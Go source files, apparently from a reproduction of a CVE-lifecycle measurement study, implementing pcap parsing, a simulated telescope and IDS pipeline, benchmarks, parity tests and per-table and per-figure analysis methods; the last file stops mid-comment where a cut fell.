	if len(body) < 20 {
		return fmt.Errorf("pcapio: EPB too short")
	}
	iface := int(r.order.Uint32(body[0:4]))
	ts := uint64(r.order.Uint32(body[4:8]))<<32 | uint64(r.order.Uint32(body[8:12]))
	capLen := int(r.order.Uint32(body[12:16]))
	origLen := int(r.order.Uint32(body[16:20]))
	if capLen < 0 || 20+capLen > len(body) {
		return fmt.Errorf("pcapio: EPB captured length %d exceeds block", capLen)
	}
	tick := time.Microsecond // pcapng default resolution is 10^-6
	if iface < len(r.tsresol) && r.tsresol[iface] > 0 {
		tick = r.tsresol[iface]
	}
	growData(p, capLen)
	copy(p.Data, body[20:20+capLen])
	p.Timestamp = time.Unix(0, int64(ts)*int64(tick)).UTC()
	p.OrigLen = origLen
	return nil
}

// parseTsresol scans IDB options for if_tsresol (code 9) and returns the
// tick duration (default 1 µs). Only power-of-ten resolutions are produced
// by common tools; power-of-two resolutions are approximated.
func parseTsresol(opts []byte, order binary.ByteOrder) time.Duration {
	tick := time.Microsecond
	for len(opts) >= 4 {
		code := order.Uint16(opts[0:2])
		olen := int(order.Uint16(opts[2:4]))
		if code == 0 {
			break
		}
		if 4+olen > len(opts) {
			break
		}
		if code == 9 && olen >= 1 {
			v := opts[4]
			if v&0x80 == 0 {
				d := time.Second
				for i := 0; i < int(v); i++ {
					d /= 10
				}
				if d > 0 {
					tick = d
				}
			}
		}
		adv := 4 + olen + (4-olen%4)%4
		if adv > len(opts) {
			break
		}
		opts = opts[adv:]
	}
	return tick
}

// OpenCapture sniffs r and returns a unified packet iterator for either
// classic pcap or pcapng input.
func OpenCapture(r io.Reader) (PacketSource, error) {
	br := bufio.NewReader(r)
	magic, err := br.Peek(4)
	if err != nil {
		return nil, fmt.Errorf("pcapio: sniffing capture format: %w", err)
	}
	if binary.LittleEndian.Uint32(magic) == blockSHB {
		return NewNgReader(br)
	}
	return NewReader(br)
}

// PacketSource is the unified read interface over both formats.
type PacketSource interface {
	// Next returns the next packet or io.EOF.
	Next() (Packet, error)
}

// ZeroCopySource is a PacketSource that can also read records into a
// caller-owned Packet, reusing its Data capacity so steady-state reads
// allocate nothing. Every source in this package implements it; consumers
// type-assert and fall back to Next for foreign sources.
type ZeroCopySource interface {
	PacketSource
	// NextInto reads the next record into p. On a non-nil error (including
	// io.EOF) the contents of p are unspecified.
	NextInto(p *Packet) error
}
