// End-to-end streaming benchmark: the zero-materialization pipeline at paper
// scale, timed serial vs sharded. This is the bench behind BENCH_e2e.json and
// CI's benchsmoke-mc job, which gates the sharded-over-serial speedup on a
// multi-core runner (see .github/workflows/ci.yml).
//
//	go test -run xxx -bench BenchmarkStreamStudy -benchtime 1x .
//
// Each sub-benchmark reports events/s (attributed exploit events over wall
// time for one full study) and gomaxprocs (the core count it actually ran
// at — the serial case pins itself to one core regardless of the runner), so
// benchsmoke can refuse to compare runs from differently-sized machines.
package repro

import (
	"runtime"
	"testing"

	"repro/internal/ids"
	"repro/wayback"
)

// streamStudyCase is one BenchmarkStreamStudy variant.
type streamStudyCase struct {
	name  string
	cfg   wayback.Config
	procs int // GOMAXPROCS override for the run; 0 keeps the runner's
}

func streamStudyCases() []streamStudyCase {
	return []streamStudyCase{
		// serial: every stage width forced to 1 AND one OS core — the honest
		// single-threaded baseline the speedup gate divides by.
		{name: "serial",
			cfg:   wayback.Config{Seed: 1, Scale: 1, StreamSegments: 1, ReasmShards: 1, MatchWorkers: 1},
			procs: 1},
		// sharded: host defaults — min(8, GOMAXPROCS) segments and shards,
		// GOMAXPROCS match workers.
		{name: "sharded", cfg: wayback.Config{Seed: 1, Scale: 1}},
		// stress: 10x the paper's event volume, host defaults. Exists to
		// prove constant-memory streaming holds past paper scale, and to
		// give capacity planning a number.
		{name: "stress", cfg: wayback.Config{Seed: 1, Scale: 1, Boost: 10}},
	}
}

// BenchmarkStreamStudy runs the full streaming study — lazy generation,
// virtual segments, flow-sharded reassembly, matching — at paper scale
// (Scale 1 ≈ 115 k exploit events) and reports attributed events/s.
func BenchmarkStreamStudy(b *testing.B) {
	for _, tc := range streamStudyCases() {
		b.Run(tc.name, func(b *testing.B) {
			procs := runtime.GOMAXPROCS(0)
			if tc.procs > 0 {
				prev := runtime.GOMAXPROCS(tc.procs)
				defer runtime.GOMAXPROCS(prev)
				procs = tc.procs
			}
			cfg := tc.cfg
			cfg.Streaming = true
			var events int64
			for i := 0; i < b.N; i++ {
				study, err := wayback.NewStudy(cfg)
				if err != nil {
					b.Fatal(err)
				}
				events = 0
				res, err := study.RunStream(func(evs []ids.Event) error {
					events += int64(len(evs))
					return nil
				})
				if err != nil {
					b.Fatal(err)
				}
				if res.Stats.DistinctCVEs != 63 {
					b.Fatalf("distinct CVEs = %d, want 63", res.Stats.DistinctCVEs)
				}
				if int64(res.Stats.MatchedEvents) != events {
					b.Fatalf("sink saw %d events, stats say %d", events, res.Stats.MatchedEvents)
				}
			}
			perOp := b.Elapsed().Seconds() / float64(b.N)
			b.ReportMetric(float64(events)/perOp, "events/s")
			b.ReportMetric(float64(procs), "gomaxprocs")
		})
	}
}
