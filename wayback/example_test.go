package wayback_test

import (
	"fmt"
	"log"

	"repro/wayback"
)

// Example runs a scaled-down study and prints the headline skill number.
func Example() {
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: 500})
	if err != nil {
		log.Fatal(err)
	}
	res, err := study.Run()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("CVEs: %d, mean CVD skill: %.2f\n", res.Stats.DistinctCVEs, res.MeanSkill())
	// Output: CVEs: 63, mean CVD skill: 0.37
}
