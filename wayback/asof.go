package wayback

import (
	"repro/internal/datasets"
	"repro/internal/eventstore"
	"repro/internal/lifecycle"
	"repro/internal/timeline"
)

// OpenTimeline attaches a time-travel engine to a store, sealing segments
// and checkpoints under dir. The engine's lifecycle aggregate is
// parameterized by this study's rule publications, so as-of timelines match
// what the batch pipeline would produce over the same events.
func (s *Study) OpenTimeline(dir string, st *eventstore.Store, cfg timeline.Config) (*timeline.Engine, error) {
	cfg.Dir = dir
	cfg.Store = st
	cfg.RulePub = s.RulePublications()
	return timeline.Open(cfg)
}

// ResultsFromView builds a Results from a time-travel view — the study as
// it stood at v.Time(). Tables and lifecycles come straight from the view's
// checkpointed aggregates (cost proportional to events since the nearest
// checkpoint); the raw event set is materialized lazily, only if a figure
// or Table 5 asks for the full distribution.
//
// With Config.PipelineTimelines unset the static Appendix E timelines are
// used, exactly as in ResultsFromEvents — as-of then only affects stats,
// figures, and event-derived analyses.
func (s *Study) ResultsFromView(v *timeline.View) *Results {
	res := newResults(s.cfg)
	res.Stats = v.Stats()
	if s.cfg.PipelineTimelines {
		res.Timelines = v.Timelines()
	} else {
		res.Timelines = lifecycle.StudyTimelines()
	}
	res.KEV = datasets.GenerateKEV(datasets.KEVConfig{Seed: s.cfg.Seed})
	res.eventsFn = v.Events
	return res
}
