package wayback

import (
	"fmt"
	"reflect"
	"runtime"
	"sort"
	"testing"

	"repro/internal/ids"
)

// TestStreamingMatchesPcapPath: the zero-materialization capture must
// reproduce the UsePcap path exactly — events in identical order, identical
// stats, identical Table 4 — for every segment count and seed.
func TestStreamingMatchesPcapPath(t *testing.T) {
	for _, seed := range []int64{1, 7} {
		base := Config{Seed: seed, Scale: 1500, LegacyScans: 30}
		pcapCfg := base
		pcapCfg.UsePcap = true
		want := run(t, pcapCfg)
		if want.Stats.MatchedEvents < 50 {
			t.Fatalf("seed %d: weak test input, only %d events", seed, want.Stats.MatchedEvents)
		}
		for _, segs := range []int{1, 3, 8} {
			t.Run(fmt.Sprintf("seed%d_segments%d", seed, segs), func(t *testing.T) {
				cfg := base
				cfg.Streaming = true
				cfg.StreamSegments = segs
				got := run(t, cfg)
				if !reflect.DeepEqual(got.Stats, want.Stats) {
					t.Errorf("stats differ:\n got %+v\nwant %+v", got.Stats, want.Stats)
				}
				if len(got.Events) != len(want.Events) {
					t.Fatalf("got %d events, want %d", len(got.Events), len(want.Events))
				}
				for i := range got.Events {
					if !reflect.DeepEqual(got.Events[i], want.Events[i]) {
						t.Fatalf("event %d differs:\n got %+v\nwant %+v", i, got.Events[i], want.Events[i])
					}
				}
				if g, w := got.Table4().String(), want.Table4().String(); g != w {
					t.Error("Table 4 differs between streamed and pcap paths")
				}
			})
		}
	}
}

// TestRunStreamMatchesRun: RunStream's sink must receive the same event
// multiset Run materializes, with identical aggregate stats.
func TestRunStreamMatchesRun(t *testing.T) {
	base := Config{Seed: 3, Scale: 1500, Streaming: true}
	want := run(t, base)

	study, err := NewStudy(base)
	if err != nil {
		t.Fatal(err)
	}
	var got []ids.Event
	res, err := study.RunStream(func(evs []ids.Event) error {
		got = append(got, evs...)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Events != nil {
		t.Error("RunStream materialized Events")
	}
	if !reflect.DeepEqual(res.Stats, want.Stats) {
		t.Errorf("stats differ:\n got %+v\nwant %+v", res.Stats, want.Stats)
	}
	key := func(e ids.Event) string {
		return fmt.Sprintf("%d|%s|%s|%d|%s", e.Time.UnixNano(), e.Src.Addr, e.Dst.Addr, e.SID, e.CVE)
	}
	a := make([]string, len(got))
	for i, e := range got {
		a[i] = key(e)
	}
	b := make([]string, len(want.Events))
	for i, e := range want.Events {
		b[i] = key(e)
	}
	sort.Strings(a)
	sort.Strings(b)
	if !reflect.DeepEqual(a, b) {
		t.Fatalf("event multisets differ: sink got %d, Run produced %d", len(a), len(b))
	}
	if len(res.Timelines) != 63 {
		t.Errorf("timelines = %d, want 63", len(res.Timelines))
	}
}

// TestRunStreamRejectsPipelineTimelines: the streaming path cannot feed the
// lifecycle-from-events derivation and must say so instead of silently
// returning empty timelines.
func TestRunStreamRejectsPipelineTimelines(t *testing.T) {
	study, err := NewStudy(Config{Seed: 1, Scale: 2000, PipelineTimelines: true})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := study.RunStream(nil); err == nil {
		t.Fatal("RunStream accepted PipelineTimelines")
	}
}

// peakHeap runs f and returns the GC-settled heap growth it caused, sampling
// between sink batches to catch the in-flight peak.
func peakHeap(t *testing.T, cfg Config) uint64 {
	t.Helper()
	study, err := NewStudy(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var ms runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&ms)
	base := ms.HeapAlloc
	var peak uint64
	batches := 0
	_, err = study.RunStream(func([]ids.Event) error {
		batches++
		if batches%8 == 0 {
			runtime.GC()
			runtime.ReadMemStats(&ms)
			if ms.HeapAlloc > peak {
				peak = ms.HeapAlloc
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	runtime.GC()
	runtime.ReadMemStats(&ms)
	if ms.HeapAlloc > peak {
		peak = ms.HeapAlloc
	}
	if peak <= base {
		return 0
	}
	return peak - base
}

// TestRunStreamConstantMemory: an 8x larger workload must not grow the
// streamed pipeline's settled peak heap 2x — memory is bounded by the
// in-flight window, not the workload size.
func TestRunStreamConstantMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("memory regression test is slow")
	}
	base := Config{Seed: 2, Streaming: true, StreamSegments: 2, ReasmShards: 2, MatchWorkers: 1}

	small := base
	small.Scale = 40 // ~2.9k exploit events
	large := base
	large.Scale = 5 // ~23k exploit events, 8x the small run

	smallPeak := peakHeap(t, small)
	largePeak := peakHeap(t, large)

	const floor = 4 << 20 // ignore noise below 4 MiB
	if smallPeak < floor {
		smallPeak = floor
	}
	if largePeak < floor {
		largePeak = floor
	}
	if ratio := float64(largePeak) / float64(smallPeak); ratio >= 2 {
		t.Fatalf("peak heap grew %.1fx (small %d B, large %d B) for an 8x workload — streaming is materializing somewhere", ratio, smallPeak, largePeak)
	}
}
