// Package wayback is the public entry point of the CVE Wayback Machine
// reproduction: it wires the full measurement pipeline together — workload
// generation (the simulated adversarial Internet), the DSCOPE telescope
// (simulated capture or byte-exact pcap), TCP reassembly, the dated Snort
// engine with port-insensitive post-facto evaluation, lifecycle assembly,
// and the paper's analyses — and exposes one method per table and figure of
// the paper's evaluation.
//
// Typical use:
//
//	study, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: 50})
//	if err != nil { ... }
//	res, err := study.Run()
//	if err != nil { ... }
//	fmt.Print(res.Table4().String())
package wayback

import (
	"bytes"
	"fmt"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/core"
	"repro/internal/datasets"
	"repro/internal/ids"
	"repro/internal/lifecycle"
	"repro/internal/pcapio"
	"repro/internal/report"
	"repro/internal/rules"
	"repro/internal/scanner"
	"repro/internal/stats"
	"repro/internal/tcpasm"
	"repro/internal/telescope"
)

// Config controls a study run.
type Config struct {
	// Seed drives every random choice; equal seeds give identical studies.
	Seed int64
	// Scale divides the paper's per-CVE event volumes (Scale 1 ≈ 115 k
	// exploit events). Zero means 50 (~2.3 k events), which keeps example
	// runs fast while preserving every CVE.
	Scale int
	// Noise is the number of non-exploit background sessions. Zero means
	// one tenth of the exploit volume.
	Noise int
	// UsePcap routes capture through real pcap bytes and the full
	// decode/reassemble path instead of the fast session path. Slower,
	// byte-exact; results are identical (verified by tests).
	UsePcap bool
	// PortSensitive disables the paper's port-insensitive rule rewriting
	// (used by the ablation bench). Default false: rules are rewritten.
	PortSensitive bool
	// PipelineTimelines derives lifecycles from the measured pipeline
	// output instead of the embedded Appendix E offsets. Appendix
	// timelines (the default) reproduce the paper's Table 4 exactly;
	// pipeline timelines validate the end-to-end measurement path.
	PipelineTimelines bool
	// LegacyScans adds sessions exploiting longstanding pre-study CVEs —
	// the bulk of real telescope traffic, which the paper's signature
	// filter excludes from analysis. Zero disables.
	LegacyScans int
	// UnfilteredRules skips the paper's filter-to-study-window step, so
	// legacy CVEs appear in the attributed events (the filtering
	// ablation). Default false: the paper's methodology.
	UnfilteredRules bool
	// ReasmShards is the flow-sharded reassembly width for the UsePcap path
	// (ids.ScanCaptureSharded). Zero picks min(8, GOMAXPROCS); every value
	// yields identical events.
	ReasmShards int
	// MatchWorkers sizes the signature-matching pool for both capture
	// paths. Zero picks GOMAXPROCS.
	MatchWorkers int
	// Streaming synthesizes the capture lazily straight into the sharded
	// scan front-end: no pcap bytes are materialized in memory or on disk,
	// yet events are byte-identical to the UsePcap path (parity-tested).
	// Takes precedence over UsePcap.
	Streaming bool
	// StreamSegments is how many virtual capture segments the streamed
	// capture splits into, one decode goroutine each. Zero means the
	// reassembly shard default, min(8, GOMAXPROCS). Every value yields
	// identical events.
	StreamSegments int
	// Boost multiplies per-CVE event counts after the Scale division
	// (scanner.Config.Boost). Zero or one means off; stress benchmarks use
	// it to push volume past paper scale.
	Boost int
	// OverlapPolicy selects how reassembly resolves conflicting overlapping
	// retransmits on the capture paths (UsePcap, Streaming). Zero is
	// first-wins; either way conflicting sessions are flagged Ambiguous.
	OverlapPolicy tcpasm.OverlapPolicy
}

func (c Config) withDefaults() Config {
	if c.Scale == 0 {
		c.Scale = 50
	}
	return c
}

// Study is a configured, compiled study: ruleset parsed, engine built.
type Study struct {
	cfg     Config
	engine  *ids.Engine
	rules   []rules.DatedRule
	ruleset map[int]time.Time
	tel     *telescope.Telescope

	// stream is the most recent streaming capture (Run with Streaming, or
	// RunStream), kept after the run so monitoring surfaces can report final
	// totals. See StreamMetrics.
	stream atomic.Pointer[telescope.Stream]
}

// StreamMetrics snapshots the capture generator's progress — blueprints
// drawn, sessions routed, frames synthesized, and the generator's lead over
// the scan. ok is false until a streaming run has started. Safe from any
// goroutine while a run is in flight; after the run it reports the final
// totals. This is the /metrics feed for streaming deployments
// (cmd/waybackfeed -stream).
func (s *Study) StreamMetrics() (telescope.StreamMetrics, bool) {
	st := s.stream.Load()
	if st == nil {
		return telescope.StreamMetrics{}, false
	}
	return st.Metrics(), true
}

// NewStudy compiles the study ruleset and telescope.
func NewStudy(cfg Config) (*Study, error) {
	cfg = cfg.withDefaults()
	// The engine gets the FULL signature set minus the paper's filter: only
	// rules for CVEs published during the study window are analyzed
	// (Section 3.1). The unfiltered variant exists for the ablation.
	rs, err := scanner.FullRuleset()
	if err != nil {
		return nil, fmt.Errorf("wayback: building ruleset: %w", err)
	}
	if !cfg.UnfilteredRules {
		rs = rules.FilterByCVE(rs, func(cve string) bool {
			return datasets.StudyCVEByID(cve) != nil
		})
	}
	pub, err := scanner.SIDPublication()
	if err != nil {
		return nil, err
	}
	return &Study{
		cfg:     cfg,
		engine:  ids.NewEngine(rs, ids.Config{PortInsensitive: !cfg.PortSensitive}),
		rules:   rs,
		ruleset: pub,
		tel:     telescope.NewSim(telescope.SimConfig{Seed: cfg.Seed}),
	}, nil
}

// Results carries everything the analyses need.
type Results struct {
	cfg Config
	// Events are the IDS-attributed exploit events.
	Events []ids.Event
	// Stats summarizes the capture scan.
	Stats ids.ScanStats
	// Coverage summarizes telescope address-space churn.
	Coverage telescope.CoverageStats
	// Timelines are the per-CVE lifecycles used for analysis.
	Timelines []lifecycle.Timeline
	// KEV is the comparison catalog.
	KEV datasets.KEVCatalog

	baselines map[core.Pair]float64

	// eventsFn lazily materializes Events for Results built from an as-of
	// view: tables and lifecycles come from checkpointed aggregates, so the
	// raw event set is only loaded if a figure (or Table 5) needs the
	// distribution. Guarded by eventsOnce; see events().
	eventsFn   func() ([]ids.Event, error)
	eventsOnce sync.Once
	eventsErr  error
}

// events returns the event set, materializing it on first use when this
// Results was built lazily (ResultsFromView). Safe for concurrent use — the
// daemon serves one cached Results to many requests. A load failure leaves
// the set empty; MaterializeEvents surfaces the error to callers that can
// report it.
func (r *Results) events() []ids.Event {
	r.eventsOnce.Do(func() {
		if r.Events == nil && r.eventsFn != nil {
			r.Events, r.eventsErr = r.eventsFn()
		}
	})
	return r.Events
}

// MaterializeEvents forces the lazy event set and reports any load error.
// Results built eagerly (Run, ResultsFromEvents) always return nil.
func (r *Results) MaterializeEvents() error {
	r.events()
	return r.eventsErr
}

// scannerConfig is the workload configuration every capture path shares.
func (s *Study) scannerConfig() scanner.Config {
	return scanner.Config{
		Seed:        s.cfg.Seed,
		Scale:       s.cfg.Scale,
		Noise:       s.cfg.Noise,
		LegacyScans: s.cfg.LegacyScans,
		Boost:       s.cfg.Boost,
	}
}

// streamSegments resolves the streamed capture's segment count.
func (s *Study) streamSegments() int {
	if s.cfg.StreamSegments > 0 {
		return s.cfg.StreamSegments
	}
	n := runtime.GOMAXPROCS(0)
	if n > 8 {
		n = 8
	}
	return n
}

// StreamCapture starts the zero-materialization capture: a lazy blueprint
// stream feeding per-flow-partitioned virtual capture segments whose frames
// are synthesized on demand (see telescope.Stream). The caller owns the
// stream and must drain every segment or Close it.
func (s *Study) StreamCapture() (*telescope.Stream, error) {
	src, err := scanner.NewStream(s.scannerConfig())
	if err != nil {
		return nil, fmt.Errorf("wayback: building workload stream: %w", err)
	}
	return s.tel.Stream(src, telescope.StreamConfig{Segments: s.streamSegments()}), nil
}

// Run generates the workload, captures it, runs the IDS, and assembles
// lifecycles.
func (s *Study) Run() (*Results, error) {
	if s.cfg.Streaming {
		st, err := s.StreamCapture()
		if err != nil {
			return nil, err
		}
		defer st.Close()
		s.stream.Store(st)
		res := newResults(s.cfg)
		res.Events, res.Stats, err = ids.ScanCaptureSharded(
			st.PacketSources(), s.engine,
			ids.ScanConfig{Shards: s.cfg.ReasmShards, MatchWorkers: s.cfg.MatchWorkers,
				DisjointSegments: true,
				Assembler:        tcpasm.Config{OverlapPolicy: s.cfg.OverlapPolicy}})
		if err != nil {
			return nil, fmt.Errorf("wayback: scanning streamed capture: %w", err)
		}
		res.finish(s)
		return res, nil
	}

	bps, err := scanner.Build(s.scannerConfig())
	if err != nil {
		return nil, fmt.Errorf("wayback: building workload: %w", err)
	}
	res := newResults(s.cfg)

	if s.cfg.UsePcap {
		var buf bytes.Buffer
		w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
		if err != nil {
			return nil, err
		}
		if err := s.tel.WritePcap(bps, w); err != nil {
			return nil, fmt.Errorf("wayback: writing capture: %w", err)
		}
		r, err := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
		if err != nil {
			return nil, err
		}
		// The parallel front-end is proven byte-identical to ids.ScanCapture
		// (parity tests in packages ids and wayback), so the fast path is
		// the only path.
		res.Events, res.Stats, err = ids.ScanCaptureSharded(
			[]pcapio.PacketSource{r}, s.engine,
			ids.ScanConfig{Shards: s.cfg.ReasmShards, MatchWorkers: s.cfg.MatchWorkers,
				Assembler: tcpasm.Config{OverlapPolicy: s.cfg.OverlapPolicy}})
		if err != nil {
			return nil, fmt.Errorf("wayback: scanning capture: %w", err)
		}
	} else {
		sessions := s.tel.Sessions(bps)
		res.Coverage = telescope.Coverage(sessions)
		// Parallel matching preserves session order, so results are
		// byte-identical to the serial path (tested in package ids).
		res.Events = ids.MatchSessionsParallel(sessions, s.engine, &res.Stats, s.cfg.MatchWorkers)
	}

	res.finish(s)
	return res, nil
}

// RunStream is Run in full streaming mode: generation, frame synthesis,
// reassembly, and matching all overlap, and attributed events flow to sink
// in completion order (each call owns its slice; nil drops them) instead of
// materializing. Results.Events stays nil — exact aggregate Stats and the
// appendix-derived timelines are still filled in, so the tables that don't
// need the raw event distribution work as usual. Configurations that need
// the full event set (PipelineTimelines) must use Run.
func (s *Study) RunStream(sink func([]ids.Event) error) (*Results, error) {
	if s.cfg.PipelineTimelines {
		return nil, fmt.Errorf("wayback: RunStream cannot derive pipeline timelines; use Run")
	}
	if sink == nil {
		sink = func([]ids.Event) error { return nil }
	}
	st, err := s.StreamCapture()
	if err != nil {
		return nil, err
	}
	defer st.Close()
	s.stream.Store(st)
	res := newResults(s.cfg)
	res.Stats, err = ids.ScanCaptureStreamed(
		st.PacketSources(), s.engine,
		ids.ScanConfig{Shards: s.cfg.ReasmShards, MatchWorkers: s.cfg.MatchWorkers,
			DisjointSegments: true,
			Assembler:        tcpasm.Config{OverlapPolicy: s.cfg.OverlapPolicy}},
		sink)
	if err != nil {
		return nil, fmt.Errorf("wayback: streaming scan: %w", err)
	}
	res.finish(s)
	return res, nil
}

func newResults(cfg Config) *Results {
	return &Results{cfg: cfg, baselines: core.PublishedBaselines()}
}

// finish derives everything downstream of the event set: timelines per the
// study configuration, and the KEV comparison catalog.
func (r *Results) finish(s *Study) {
	if s.cfg.PipelineTimelines {
		r.Timelines = lifecycle.FromPipeline(r.events(), s.ruleset)
	} else {
		r.Timelines = lifecycle.StudyTimelines()
	}
	r.KEV = datasets.GenerateKEV(datasets.KEVConfig{Seed: s.cfg.Seed})
}

// Engine exposes the compiled IDS engine (for custom pipelines and the
// live-telescope example).
func (s *Study) Engine() *ids.Engine { return s.engine }

// RulePublications exposes the SID → publication-time map.
func (s *Study) RulePublications() map[int]time.Time { return s.ruleset }

// DatedRuleset exposes the compiled study ruleset with per-rule publication
// times — the base generation a versioned ruleset registry layers deltas on.
func (s *Study) DatedRuleset() []rules.DatedRule { return s.rules }

// EngineConfig returns the ids.Config the study's engine was compiled with,
// so a registry rebuilding the engine per generation matches its semantics.
func (s *Study) EngineConfig() ids.Config {
	return ids.Config{PortInsensitive: !s.cfg.PortSensitive}
}

// ---- Tables ----

// Table1 returns the prior-work survey table.
func (r *Results) Table1() report.Table { return report.Table1() }

// Table2 returns the data-source table.
func (r *Results) Table2() report.Table { return report.Table2() }

// Table3 renders both desiderata matrices.
func (r *Results) Table3() string { return report.Table3() }

// Table4 evaluates the per-CVE desiderata.
func (r *Results) Table4() report.Table {
	return report.DesiderataTable("Table 4: Desiderata satisfaction per CVE",
		r.Table4Results())
}

// Table4Results returns the raw Table 4 rows.
func (r *Results) Table4Results() []core.DesideratumResult {
	return core.EvaluateDesiderata(r.Timelines, r.baselines)
}

// Table5 evaluates the per-event desiderata.
func (r *Results) Table5() report.Table {
	return report.DesiderataTable("Table 5: Desiderata satisfaction per exploit event",
		r.Table5Results())
}

// Table5Results returns the raw Table 5 rows.
func (r *Results) Table5Results() []core.DesideratumResult {
	return core.EvaluatePerEvent(r.events(), r.Timelines, r.baselines)
}

// Table6 renders the Log4Shell variant table.
func (r *Results) Table6() report.Table { return report.Table6() }

// AppendixE renders the studied-CVE listing.
func (r *Results) AppendixE() report.Table { return report.AppendixETable() }

// ---- Figures ----

// Figure1 bins observed CVEs by publication date (quarterly).
func (r *Results) Figure1() *stats.Histogram {
	h, _ := stats.NewHistogram(0, 91, 9)
	for _, c := range datasets.StudyCVEs() {
		h.Add(c.Published.Sub(datasets.StudyWindow.Start).Hours() / 24)
	}
	return h
}

// Figure2 returns the impact CDFs: studied vs KEV vs all CVEs.
func (r *Results) Figure2() []report.Series {
	pop := datasets.GeneratePopulation(datasets.PopulationConfig{Seed: r.cfg.Seed})
	return []report.Series{
		report.FromECDF("studied", "CVSS", stats.MustECDF(datasets.StudyImpactSamples())),
		report.FromECDF("kev", "CVSS", stats.MustECDF(r.KEV.ImpactSamples())),
		report.FromECDF("all", "CVSS", stats.MustECDF(datasets.ImpactSamples(pop))),
	}
}

// Figure3 is the absolute exploit-event timeline (30-day bins).
func (r *Results) Figure3() *stats.Histogram {
	return core.EventTimeline(r.events(), 30, datasets.StudyWindow.Start, datasets.StudyWindow.End)
}

// Figure4 is the publication-relative event timeline (15-day bins).
func (r *Results) Figure4() *stats.Histogram {
	return core.RelativeEventTimeline(r.events(), r.Timelines, 15, -450, 450)
}

// Figure5 returns the three headline window CDFs (A−D, P−D, A−P).
func (r *Results) Figure5() []core.WindowCDF {
	all := core.PaperWindowCDFs(r.Timelines)
	return all[:3]
}

// Figures13to18 returns the appendix window CDFs.
func (r *Results) Figures13to18() []core.WindowCDF {
	all := core.PaperWindowCDFs(r.Timelines)
	return all[3:]
}

// Figure6 is the mitigated/unmitigated CVE-per-bin histogram.
func (r *Results) Figure6() core.ExposureBins {
	return core.ExposureByBin(r.events(), r.Timelines, 5, -50, 200)
}

// Figure7 is the mitigated/unmitigated cumulative exposure CDF.
func (r *Results) Figure7() core.ExposureCDFs {
	return core.ExposureCDF(r.events(), r.Timelines)
}

// Figure8 is the Log4Shell session CDF.
func (r *Results) Figure8() core.SessionCDF {
	return core.CaseStudyCDF(r.events(), "2021-44228", datasets.Log4ShellPublished)
}

// Figure9 is the Log4Shell variant-group series over the first month.
func (r *Results) Figure9() []core.VariantSeries {
	return core.Log4ShellVariantSeries(r.events(), 21)
}

// Figure10 is the KEV A−P CDF.
func (r *Results) Figure10() report.Series {
	cmp := r.KEVComparison()
	return report.FromECDF("kev A-P", "days", cmp.KevAMinusP)
}

// Figure11 is the DSCOPE-vs-KEV first-exploitation delta CDF.
func (r *Results) Figure11() report.Series {
	cmp := r.KEVComparison()
	return report.FromECDF("KEV added - first DSCOPE attack", "days", cmp.Delta)
}

// Figure12 is the Confluence session CDF.
func (r *Results) Figure12() core.SessionCDF {
	meta := datasets.StudyCVEByID("2022-26134")
	return core.CaseStudyCDF(r.events(), "2022-26134", meta.Published)
}

// ---- Findings ----

// Finding7 runs the IDS-vendor-inclusion counterfactual for D < A.
func (r *Results) Finding7() core.CounterfactualReport {
	return core.EvaluateCounterfactual(r.Timelines,
		core.Pair{A: lifecycle.FixDeployed, B: lifecycle.Attacks},
		30*24*time.Hour, r.baselines)
}

// KEVComparison joins timelines against the KEV catalog (Findings 15–17).
func (r *Results) KEVComparison() core.KEVComparison {
	return core.CompareKEV(r.Timelines, r.KEV)
}

// MitigatedShare is the Section 6 headline exposure number.
func (r *Results) MitigatedShare() float64 {
	return core.MitigatedShare(r.events(), r.Timelines)
}

// MeanSkill is Finding 3's headline.
func (r *Results) MeanSkill() float64 {
	return core.MeanSkill(r.Table4Results())
}
