package wayback

import (
	"log"
	"sync"
	"sync/atomic"

	"repro/internal/datasets"
	"repro/internal/eventstore"
	"repro/internal/ids"
	"repro/internal/lifecycle"
)

// Incremental maintains the study's table/figure aggregates as deltas over a
// live event store, so a generation bump costs O(new events) instead of a
// full replay. It is the read path's counterpart to the merge-parity builders
// (ids.StatsBuilder, lifecycle.Builder): those make any split of the event
// stream aggregate identically, and Incremental exploits that by folding only
// each shard's unseen suffix on every generation move.
//
// Amendments break the pure-fold model: a retroactive re-attribution rewrites
// history rather than extending it, and so does a raw event arriving for a
// session an amendment already claimed (the overlay would swallow or replace
// it). Both cases fall back to a full rebuild — loud (logged) and metered
// (Metrics.Rebuilds) so an operator can see when the O(new) promise is not
// being kept.
//
// Results handed out are byte-for-byte identical to a cold
// Study.ResultsFromStore at the same generation (proven by parity tests):
// the aggregates commute, the lazy event set replays exactly Snapshot's
// merge-sort-amend computation over pinned immutable shard prefixes, and the
// KEV catalog is deterministic in the seed so caching it changes nothing.
type Incremental struct {
	study *Study
	store *eventstore.Store

	mu         sync.Mutex
	stats      *ids.StatsBuilder
	lc         *lifecycle.Builder
	positions  []int // per-shard events already folded
	amendCount int   // amendment records accounted for (via the last rebuild)
	wins       map[any]eventstore.Amendment
	parts      [][]ids.Event          // pinned per-shard prefixes of the current view
	amends     []eventstore.Amendment // pinned amendment prefix of the current view
	merged     []ids.Event            // materialized events, when the rebuild already paid for them
	gen        uint64
	res        *Results
	valid      bool

	kev    datasets.KEVCatalog
	kevSet bool

	folds        atomic.Uint64
	foldedEvents atomic.Uint64
	rebuilds     atomic.Uint64
}

// NewIncremental returns an Incremental view of st under this study's
// configuration. The first Results call pays one full build; every later
// generation bump folds only the new events unless an amendment forces a
// rebuild.
func (s *Study) NewIncremental(st *eventstore.Store) *Incremental {
	return &Incremental{study: s, store: st}
}

// IncrementalMetrics counts how generation moves were absorbed.
type IncrementalMetrics struct {
	// Folds is the number of generation moves absorbed as pure deltas.
	Folds uint64
	// FoldedEvents is the total events folded across all deltas.
	FoldedEvents uint64
	// Rebuilds is the number of full recomputes: the initial build plus
	// every amendment-driven fallback. A growing value under steady ingest
